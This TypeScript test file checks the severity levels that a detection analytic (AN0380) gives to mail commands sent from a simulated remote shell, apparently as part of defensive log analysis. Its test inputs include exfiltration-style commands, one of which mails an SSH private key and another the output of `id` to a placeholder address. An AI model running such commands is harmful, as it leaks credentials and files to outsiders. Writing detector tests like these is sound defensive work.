import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HostLog, MINUTE } from '../an0656-phishing-attachment-executed/host-log.test-support.ts';
import { scanLog } from '../an0656-phishing-attachment-executed/stories.test-support.ts';

const OUT = 'partner@example.net';

interface Letter {
  readonly line?: string;
  readonly stages?: readonly string[];
  readonly size?: number;
  readonly from?: (log: HostLog, line: string) => ReturnType<HostLog['remote']>;
  readonly times?: number;
}

/** Severities that AN0380 comes to. */
async function told({
  line = `echo "as agreed" | mail -s Terms ${OUT}`,
  stages = [],
  size = 420,
  from,
  times = 1,
}: Letter) {
  const log = new HostLog();
  log.shell('ops').run('/usr/bin/vim notes.txt').write('/home/ops/notes.txt');
  log.deliver();
  for (let i = 0; i < times; i++) {
    log.wait(20 * MINUTE);
    const shell = from === undefined ? log.remote('clerk', line, '198.51.100.9') : from(log, line);
    const mail = shell.pipeline(...stages, `/usr/bin/mail -s Terms ${OUT}`).at(-1);
    mail?.run(`/usr/sbin/sendmail -i ${OUT}`).run('/usr/sbin/postdrop -r');
    log.submitted('clerk', OUT, size);
  }
  const alerts = await scanLog(log);
  return alerts.filter(({ analytic }) => analytic === 'AN0380').map(({ severity }) => severity);
}

test('a line that a login without a terminal mails in words of its own is ordinary', async () => {
  assert.deepEqual(await told({}), ['informational']);
  assert.deepEqual(await told({ line: `printf 'so be it; see you\\n' | /usr/bin/mail -s Yes ${OUT}` }), [
    'informational',
  ]);
  assert.deepEqual(
    await told({ line: `echo hello >&2; echo x | mail -s a ${OUT}` }),
    ['low'],
    'more than is understood',
  );
  assert.deepEqual(await told({ stages: ['/bin/echo as agreed'] }), ['informational']);
  const session = (log: HostLog, line: string) => (held ??= log.remote('clerk', line, '198.51.100.9'));
  let held: ReturnType<HostLog['remote']> | undefined;
  assert.deepEqual(await told({ times: 3, from: session }), ['informational'], 'three in one session');
});

test('a file, another program, something substituted, more than a page, or many are more than that', async () => {
  for (const line of [
    `mail -s Terms ${OUT} < contract.txt`,
    `echo "$(cat .ssh/id_rsa)" | mail -s k ${OUT}`,
    `echo \`id\` | mail -s k ${OUT}`,
    `tail -3 notes | mail -s k ${OUT}`,
    `{ echo a; cat b; } | mail -s k ${OUT}`,
  ])
    assert.deepEqual(await told({ line }), ['low'], line);
  assert.deepEqual(await told({ stages: ['/bin/cat contract.txt'] }), ['low'], 'a program reads a file');
  assert.deepEqual(await told({ size: 5000 }), ['low'], 'too large');
  let held: ReturnType<HostLog['remote']> | undefined;
  const from = (log: HostLog, line: string) => (held ??= log.remote('clerk', line, '198.51.100.9'));
  assert.deepEqual(await told({ times: 4, from }), ['low'], 'again and again in one session');
});

test('a job of cron that says a line is none of a login', async () => {
  assert.deepEqual(await told({ from: (log, line) => log.cron('clerk', line) }), ['low']);
});
